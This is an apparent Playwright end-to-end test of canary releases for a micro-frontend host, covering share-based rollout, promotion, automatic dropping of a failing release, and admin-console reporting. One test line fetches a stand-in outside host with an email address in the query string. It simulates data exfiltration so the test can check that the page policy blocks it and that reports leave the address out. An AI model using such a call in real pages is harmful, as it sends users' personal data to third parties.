import { spawn } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { releaseRemote, ReleaseStore } from '@fairshore/release-host';
import { answerConsent } from '@fairshore/release-host/browser';
import { rootDir } from '@fairshore/remote-kit/release';
import type { Browser, Page } from '@playwright/test';
import { copyReleases } from '../copyReleases';
import { serveEmptySuite } from '../emptySuite';
import type { EmptySuite } from '../emptySuite';
import { copyRelease } from '../releaseCopy';
import { expect, test } from '../test';

const name = 'mfe-content';
const good = '1.0.3-0000000c';
const broken = '1.0.4-0000000d';
const boom = 'the canary sings no more';

let dir = '';
let store: ReleaseStore;
let suite: EmptySuite;
let url = '';
let stable = '';

// A separate store and backend, so that reports of other tests are not counted here.

test.beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'fairshore-canaries-'));
  await copyReleases(dir);
  store = new ReleaseStore(dir);
  suite = await serveEmptySuite(store);
  ({ url } = suite);
  stable = (await entry()).stable.version;
  await copyRelease({ store: dir, name, from: stable, version: good });
  await copyRelease({ store: dir, name, from: stable, version: broken, throws: boom });
});

test.afterAll(async () => {
  await suite.stop();
  await rm(dir, { recursive: true, force: true });
});

test('a canary reaches its share of browsers and is promoted by one command; a failing one is dropped automatically', async ({
  browser,
}) => {
  const console = await browserWith(browser, 99);
  await console.addInitScript((text) => localStorage.setItem('fairshore.auth', text), suite.adminSession);
  const row = console.getByRole('row', { name: new RegExp(`^${name}`) });

  await test.step('browsers in its share get it and keep it, then one command promotes it to everybody', async () => {
    await giveToTenPercent(good);
    const inside = await browserWith(browser, 9);
    const outside = await browserWith(browser, 10);
    for (let visit = 0; visit < 2; visit += 1) {
      expect(await versionsAsked(inside)).toEqual([good]);
      expect(await versionsAsked(outside)).toEqual([stable]);
    }

    const promoted = await release('--promote');
    expect(promoted.output).toContain(`${name} ${good} is live for everybody`);
    expect(promoted.code).toBe(0);
    expect(await versionsAsked(outside)).toEqual([good]);
    await Promise.all([inside.context().close(), outside.context().close()]);
    stable = good;
  });

  await test.step('a canary that throws is dropped in that browser at once, and the console reports it', async () => {
    await giveToTenPercent(broken);
    const page = await browserWith(browser, 4);
    const reported = page.waitForResponse('**/rpc/report_remote_events');
    expect(await versionsAsked(page)).toEqual([broken, stable]);
    expect(await (await reported).json()).toBeGreaterThan(0);
    expect((await reported).request().postData()).not.toContain(boom);
    const refused = page.waitForRequest(
      (request) =>
        request.url().endsWith('/rpc/report_remote_events') &&
        request.postData()?.includes('policy') === true,
    );
    await page.evaluate(async () => {
      await fetch('https://elsewhere.example/?mail=ana@b.example').catch(() => undefined);
      // Observers are notified in order, so the shell's observer already has its report when this one is called.
      await new Promise<void>((done) => {
        new ReportingObserver(() => done(), { types: ['csp-violation'], buffered: true }).observe();
      });
      window.dispatchEvent(new Event('pagehide'));
    });
    expect((await refused).postData()).not.toContain('ana@b.example');
    expect(await versionsAsked(page)).toEqual([stable]);
    await page.context().close();

    await openRemotes(console);
    await expect(row).toContainText('On trial');
    await expect(row).toContainText('Healthy');
    await row.getByRole('button', { name: `Details of ${name}` }).click();
    const commands = console.getByRole('region', { name: `Commands for ${name}` });
    await expect(commands).toContainText(`npm run release -- ${name} --promote`);
    await expect(commands).toContainText(`npm run rollback -- ${name}`);
    await expect(console.getByRole('region', { name: `Canary of ${name}` })).toContainText(
      /10 ?% of browsers/,
    );

    const events = console.getByRole('table', { name: 'Last events' });
    const event = events.getByRole('row', {
      name: new RegExp(`${broken} Threw while starting`),
    });
    await expect(event).toBeVisible();
    await expect(
      events.getByRole('row', {
        name: /nobody .*Blocked by the page’s policy a connection connect-src: https:\/\/elsewhere\.example/,
      }),
    ).toBeVisible();
    const incident = (await event.getByRole('cell').last().textContent())?.match(/[0-9A-F]{8}/)?.[0] ?? '';
    await console.getByRole('searchbox', { name: 'Search events' }).fill(incident.toLowerCase());
    // The failure, and that the canary was dropped because of it.
    await expect(events.getByRole('row').filter({ hasText: broken })).toHaveCount(2);
  });

  await test.step('after too many failures no browser chooses it, and promoting it requires force', async () => {
    const visitor = suite.backend.client();
    for (let report = 0; report < 20; report += 1) {
      const failure = { phase: 'start', kind: 'broken', incident: `0000${1000 + report}`, message: boom };
      const event = report < 15 ? { phase: 'ready' } : failure;
      await visitor
        .rpc('report_remote_events', { p_events: [{ remote: name, version: broken, ...event }] })
        .throwOnError();
    }
    await expect.poll(async () => (await entry()).canary?.dropped).toBe(true);

    const fresh = await browserWith(browser, 0);
    expect(await versionsAsked(fresh)).toEqual([stable]);
    await expect.poll(() => dropped(fresh)).toContain(broken);

    await openRemotes(console);
    await expect(row).toContainText('Dropped');
    await expect(row).toContainText(/28\.6 ?% fail/);
    await console.context().close();

    const refused = await release('--promote');
    expect(refused.code).toBe(1);
    expect(refused.output.trim()).toMatch(
      new RegExp(`${broken} was dropped: It failed 28\\.6% of the time, more than 5%\\. .*--force\\.$`),
    );
    const aborted = await release('--abort');
    expect(aborted.output).toContain(`The canary of ${name} is taken back; everybody gets ${stable}.`);
    await fresh.goto(`${url}/compliance`);
    await expect.poll(() => dropped(fresh)).toBeNull();
    await fresh.context().close();
  });
});

async function entry() {
  const registry: Awaited<ReturnType<ReleaseStore['registry']>> = await (
    await fetch(`${url}/registry.json`)
  ).json();
  const found = registry.remotes.find((remote) => remote.name === name);
  if (!found) throw new Error(`The registry has no ${name}.`);
  return found;
}

function giveToTenPercent(version: string) {
  return releaseRemote(store, name, version, {
    smokeTest: () => Promise.resolve([]),
    canary: { percent: 10 },
  });
}

/** A page in a browser that belongs to this share of visitors. */
async function browserWith(browser: Browser, bucket: number): Promise<Page> {
  const page = await (await browser.newContext()).newPage();
  await answerConsent(page);
  await page.addInitScript((text) => localStorage.setItem('fairshore.bucket', text), String(bucket));
  await page.addInitScript((remote) => {
    const tried: string[] = [];
    Object.assign(window, { triedReleases: tried });
    window.addEventListener('fairshore:remote', (event) => {
      if (!(event instanceof CustomEvent) || event.detail.remote !== remote) return;
      if (event.detail.phase === 'start') tried.push(event.detail.version);
    });
  }, name);
  return page;
}

/** Opens a page of the remote; once it is shown, resolves with the releases that were tried, in order. */
async function versionsAsked(page: Page): Promise<string[]> {
  await page.goto(`${url}/advisory`);
  await expect(page.getByRole('heading', { level: 1, name: /advis/i })).toBeVisible();
  const tried = await page.evaluate((): unknown => Reflect.get(window, 'triedReleases'));
  return Array.isArray(tried) ? [...new Set(tried.map(String))] : [];
}

function dropped(page: Page): Promise<string | null> {
  return page.evaluate(() => localStorage.getItem('fairshore.dropped'));
}

async function openRemotes(console: Page): Promise<void> {
  await console.goto(`${url}/admin?tab=remotes`);
  await expect(console.getByRole('heading', { level: 1, name: 'Remotes' })).toBeVisible();
}

/** Runs `npm run release` on this store. */
function release(option: string): Promise<{ code: number | null; output: string }> {
  const args = ['--import', 'tsx', 'release-host/src/commands/release.ts', name, option, '--store', dir];
  const child = spawn(process.execPath, args, {
    cwd: rootDir,
    env: { ...process.env, PORT: new URL(url).port, SUPABASE_URL: '' },
  });
  let output = '';
  child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
  child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString()));
  return new Promise((resolve, reject) => {
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, output }));
  });
}
